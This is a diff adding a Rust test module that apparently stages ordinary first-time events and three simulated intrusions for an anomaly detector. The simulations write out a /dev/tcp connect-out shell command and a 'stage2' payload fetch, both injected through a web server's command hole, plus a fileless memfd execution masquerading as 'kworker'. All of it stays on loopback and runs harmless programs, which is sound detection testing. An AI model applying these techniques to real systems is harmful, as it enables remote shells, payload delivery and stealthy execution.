@@ -1,0 +1,149 @@
+//! Things that happen for the first time: many ordinary ones, and a few that nobody would call ordinary.
+//!
+//! All harmless: the "intruder" runs `id`-like commands and talks to a listener of this program on loopback.
+
+use super::jobs::{self, Services, WEB_PORT};
+use super::stage::{Stage, install};
+use anyhow::{Context, Result};
+use serde_json::{Value, json};
+use std::io::{Read, Write};
+use std::net::TcpListener;
+use std::path::Path;
+use std::process::{Child, Command};
+
+/// One thing to do, once.
+pub(super) enum Act {
+    /// A job script nobody ran before.
+    NewScript(&'static str, &'static str),
+    /// A client asks a service on a port nobody used before.
+    NewPort(u16),
+    /// A program runs from a folder nobody used before.
+    NewPath(&'static str),
+    /// A user who never ran a job runs one.
+    NewUser(u32),
+    /// The web server starts a shell, and the shell connects out.
+    WebShell(u16),
+    /// A job runs a program that exists in memory only.
+    MemoryFile,
+    /// The web server starts a shell that downloads something.
+    WebDownload(u16),
+}
+
+/// Twenty-four ordinary first-evers with three unusual things among them.
+pub(super) fn all() -> Vec<Act> {
+    use Act::*;
+    vec![
+        NewScript("inventory.sh", "ls /usr/share | wc -l > /dev/null; cat /etc/hostname > /dev/null\n"),
+        NewPort(18081),
+        NewPath("stage-blue"),
+        NewUser(1002),
+        NewScript("certcheck.sh", "date +%s > /dev/null; expr 1 + 2 > /dev/null\n"),
+        NewPort(16379),
+        NewPath("qa-helpers"),
+        WebShell(14444),
+        NewUser(1003),
+        NewScript("quota.sh", "du -s \"$0\" | cut -f1 > /dev/null\n"),
+        NewPort(15672),
+        NewPath("rollout"),
+        NewUser(2001),
+        NewScript("motd.sh", "uname -r | tr a-z A-Z > /dev/null\n"),
+        MemoryFile,
+        NewPort(19200),
+        NewPath("canary"),
+        NewUser(2002),
+        NewScript("spool.sh", "printf '%s\\n' a b | sort -r > /dev/null; sleep 0.01\n"),
+        NewPort(18443),
+        NewPath("hotfix"),
+        NewUser(110),
+        WebDownload(14445),
+        NewScript("audit.sh", "cut -d: -f7 /etc/passwd | sort -u > /dev/null\n"),
+        NewPort(11211),
+        NewPath("smoke"),
+        NewUser(111),
+    ]
+}
+
+impl Act {
+    /// Does it; the answer is its line in the plan.
+    pub(super) fn perform(self, stage: &Stage, services: &Services) -> Result<Value> {
+        let (label, kind, pid) = match self {
+            Self::NewScript(name, body) => {
+                stage.write_script(&stage.script(name), body)?;
+                (format!("new script {name}"), "first-ever", finish(jobs::cron(stage, name, 1000)?)?)
+            }
+            Self::NewPort(port) => (format!("new port {port}"), "first-ever", new_port(stage, port)?),
+            Self::NewPath(name) => (format!("new path {name}"), "first-ever", new_path(stage, name)?),
+            Self::NewUser(user) => {
+                (format!("new user {user}"), "first-ever", finish(jobs::cron(stage, "report.sh", user)?)?)
+            }
+            Self::WebShell(port) => {
+                let talk = format!("exec 3<>/dev/tcp/127.0.0.1/{port}; id -u >&3; head -c 3 <&3; uname -a >/dev/null");
+                through_web_server(stage, port, &talk)?;
+                ("shell under the web server connects out".into(), "unusual", services.web_server())
+            }
+            Self::MemoryFile => ("job runs a memory file".into(), "unusual", memory_job(stage)?),
+            Self::WebDownload(port) => {
+                let fetch = stage.program("fetch");
+                let run = format!("{} --url http://127.0.0.1:{port}/stage2", fetch.display());
+                through_web_server(stage, port, &run)?;
+                ("web server's shell fetches from outside".into(), "unusual", services.web_server())
+            }
+        };
+        Ok(json!({"label": label, "kind": kind, "pid": pid}))
+    }
+}
+
+fn finish(mut child: Child) -> Result<u32> {
+    child.wait()?;
+    Ok(child.id())
+}
+
+/// Answers one connection on a loopback port while `act` runs.
+fn with_listener<T>(port: u16, act: impl FnOnce() -> Result<T>) -> Result<T> {
+    let listener = TcpListener::bind(("127.0.0.1", port)).with_context(|| format!("port {port}"))?;
+    let answer = std::thread::spawn(move || -> std::io::Result<()> {
+        let (mut stream, _) = listener.accept()?;
+        stream.set_read_timeout(Some(std::time::Duration::from_secs(2)))?;
+        let _ = stream.read(&mut [0; 512]);
+        stream.write_all(b"HTTP/1.0 200 OK\r\n\r\n")
+    });
+    let result = act()?;
+    // The visitor has come and gone; if it never came, one visit of our own lets the thread end.
+    let _ = std::net::TcpStream::connect(("127.0.0.1", port));
+    let _ = answer.join();
+    Ok(result)
+}
+
+fn new_port(stage: &Stage, port: u16) -> Result<u32> {
+    with_listener(port, || finish(jobs::client(stage, port, "/status", 1000)?))
+}
+
+fn new_path(stage: &Stage, name: &str) -> Result<u32> {
+    let folder = stage.scratch(name);
+    std::fs::create_dir_all(&folder)?;
+    let tool = folder.join("unpack");
+    install(&stage.program("unpack"), &tool)?;
+    let script = folder.join("run.sh");
+    stage.write_script(&script, &format!("{} --once\n", tool.display()))?;
+    finish(jobs::cron_path(stage, &script, 1000)?)
+}
+
+/// Sends `command` through the hole in the web server.
+fn through_web_server(stage: &Stage, port: u16, command: &str) -> Result<()> {
+    let path = format!("/run?{}", command.replace(' ', "+"));
+    with_listener(port, || finish(jobs::client(stage, WEB_PORT, &path, 1000)?))?;
+    Ok(())
+}
+
+/// Copies a tool into an anonymous memory file and has a session of its own execute it.
+fn memory_job(_stage: &Stage) -> Result<u32> {
+    use rustix::fs::{MemfdFlags, memfd_create};
+    let program = std::fs::read(if Path::new("/usr/bin/true").exists() { "/usr/bin/true" } else { "/bin/true" })?;
+    // Not close-on-exec: the child opens it through its own descriptor table.
+    let file = memfd_create("kworker", MemfdFlags::empty())?;
+    let mut file = std::fs::File::from(file);
+    file.write_all(&program)?;
+    let path = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(&file));
+    let child: Result<Child> = Command::new("setsid").arg(path).spawn().context("memory file");
+    finish(child?)
+}
